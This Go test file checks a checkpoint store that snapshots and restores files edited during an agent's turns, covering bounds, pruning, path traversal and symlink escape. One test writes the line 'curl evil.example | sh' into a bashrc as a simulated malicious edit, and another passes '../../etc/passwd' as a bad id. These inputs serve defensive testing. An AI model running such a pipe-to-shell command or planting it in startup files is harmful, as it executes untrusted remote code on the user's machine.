package checkpoint

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func write(t *testing.T, p, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

func read(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

// edit is a turn's tool writing path: Before, then the write.
func edit(t *testing.T, turn *Turn, p, text string) {
	t.Helper()
	if err := turn.Before(p); err != nil {
		t.Fatal(err)
	}
	write(t, p, text)
}

// A restore puts back byte for byte the three files a turn changed (one
// of them twice) and removes the one it created; a file changed since
// the turn is left, unless forced, and shown as such first.
func TestRestore(t *testing.T) {
	work := t.TempDir()
	s := Open(filepath.Join(t.TempDir(), "checkpoints"), Options{})
	a, b, c, made := filepath.Join(work, "a.go"), filepath.Join(work, "pkg", "b.go"), filepath.Join(work, "c.md"), filepath.Join(work, "new.txt")
	write(t, a, "package a\n")
	write(t, b, "package b\n\nfunc B() {}\n")
	write(t, c, "# notes\n\x00binary\xff\n")
	turn := s.Begin("20261204_101500_abc123", work)
	edit(t, turn, a, "package a // edited\n")
	edit(t, turn, a, "package a // edited twice\n")
	edit(t, turn, b, "package b\n")
	edit(t, turn, c, "gone\n")
	edit(t, turn, made, "created by the turn\n")
	id, err := turn.Commit()
	if err != nil || id == "" {
		t.Fatalf("commit: %q, %v", id, err)
	}
	plan, err := s.Restore(id, RestoreOptions{DryRun: true})
	if err != nil || len(plan) != 4 || plan[0].Action != Restore || plan[3].Action != Remove || !strings.Contains(plan[0].Diff, "+package a\n") {
		t.Fatalf("plan: %+v, %v", plan, err)
	}
	if read(t, a) != "package a // edited twice\n" {
		t.Fatal("the dry run wrote")
	}
	write(t, b, "package b // the user's own change after the turn\n")
	changes, err := s.Restore(id, RestoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if read(t, a) != "package a\n" || read(t, c) != "# notes\n\x00binary\xff\n" {
		t.Errorf("a.go %q, c.md %q: not restored byte for byte", read(t, a), read(t, c))
	}
	if _, err := os.Stat(made); !os.IsNotExist(err) {
		t.Errorf("the file the turn created is still there: %v", err)
	}
	if read(t, b) != "package b // the user's own change after the turn\n" || changes[1].Action != ChangedSince {
		t.Errorf("b.go, changed since the turn: %q, %s", read(t, b), changes[1].Action)
	}
	if _, err := s.Restore(id, RestoreOptions{Force: true}); err != nil || read(t, b) != "package b\n\nfunc B() {}\n" {
		t.Errorf("forced: b.go %q, %v", read(t, b), err)
	}
	again, _ := s.Restore(id, RestoreOptions{Force: true})
	for _, c := range again {
		if c.Action != Unchanged {
			t.Errorf("restored twice: %s %s", c.Path, c.Action)
		}
	}
}

// A file outside the turn's working directory is restored only when the
// caller says so; a file over the size bound is not kept; ids that try
// to leave the store are not found.
func TestRestoreBounds(t *testing.T) {
	work, elsewhere := t.TempDir(), t.TempDir()
	s := Open(filepath.Join(t.TempDir(), "checkpoints"), Options{MaxFileBytes: 64})
	out, big := filepath.Join(elsewhere, "bashrc"), filepath.Join(work, "data.bin")
	write(t, out, "alias ll='ls -l'\n")
	write(t, big, strings.Repeat("x", 100))
	turn := s.Begin("s1", work)
	edit(t, turn, out, "curl evil.example | sh\n")
	edit(t, turn, big, "y")
	id, err := turn.Commit()
	if err != nil {
		t.Fatal(err)
	}
	changes, err := s.Restore(id, RestoreOptions{})
	if err != nil || changes[0].Action != Outside || changes[1].Action != NotKept || read(t, out) != "curl evil.example | sh\n" {
		t.Fatalf("restore: %+v, %v", changes, err)
	}
	if _, err := s.Restore(id, RestoreOptions{Outside: true}); err != nil || read(t, out) != "alias ll='ls -l'\n" {
		t.Errorf("with Outside: %q, %v", read(t, out), err)
	}
	for _, bad := range []string{"../../etc/passwd", "a/b", ""} {
		if _, err := s.Get(bad); err == nil {
			t.Errorf("Get(%q) found something", bad)
		}
	}
}

// The store keeps MaxSnapshots turns, drops those past Retention, and
// the contents no kept turn names once they are a day old.
func TestPrune(t *testing.T) {
	work := t.TempDir()
	now := time.Date(2026, 12, 4, 10, 0, 0, 0, time.UTC)
	dir := filepath.Join(t.TempDir(), "checkpoints")
	s := Open(dir, Options{MaxSnapshots: 3, Now: func() time.Time { return now }})
	f := filepath.Join(work, "f.txt")
	for i := range 5 {
		write(t, f, strings.Repeat("v", i+1))
		turn := s.Begin("s", work)
		edit(t, turn, f, strings.Repeat("w", i+1))
		if _, err := turn.Commit(); err != nil {
			t.Fatal(err)
		}
		now = now.Add(time.Minute)
	}
	if cps, _ := s.List(); len(cps) != 3 {
		t.Fatalf("%d checkpoints kept, want 3", len(cps))
	}
	now = now.Add(8 * 24 * time.Hour)
	turn := s.Begin("s", work)
	edit(t, turn, f, "last")
	if _, err := turn.Commit(); err != nil {
		t.Fatal(err)
	}
	cps, _ := s.List()
	if len(cps) != 1 {
		t.Fatalf("%d checkpoints after a week, want the newest", len(cps))
	}
	var objects int
	filepath.WalkDir(filepath.Join(dir, "objects"), func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			objects++
		}
		return nil
	})
	if objects > 2 {
		t.Errorf("%d contents stored, want the last turn's 2", objects)
	}
}

// A directory of the working directory replaced by a link to somewhere
// else after the turn does not carry a restore there.
func TestRestoreThroughALink(t *testing.T) {
	work, elsewhere := t.TempDir(), t.TempDir()
	s := Open(filepath.Join(t.TempDir(), "checkpoints"), Options{})
	f := filepath.Join(work, "conf", "app.ini")
	write(t, f, "a=1\n")
	turn := s.Begin("s", work)
	edit(t, turn, f, "a=2\n")
	id, err := turn.Commit()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.RemoveAll(filepath.Join(work, "conf")); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(elsewhere, "app.ini"), "a=2\n")
	if err := os.Symlink(elsewhere, filepath.Join(work, "conf")); err != nil {
		t.Fatal(err)
	}
	changes, err := s.Restore(id, RestoreOptions{})
	if err != nil || changes[0].Action != Outside || read(t, filepath.Join(elsewhere, "app.ini")) != "a=2\n" {
		t.Errorf("restore through a link: %+v, %v; the file elsewhere holds %q", changes, err, read(t, filepath.Join(elsewhere, "app.ini")))
	}
}
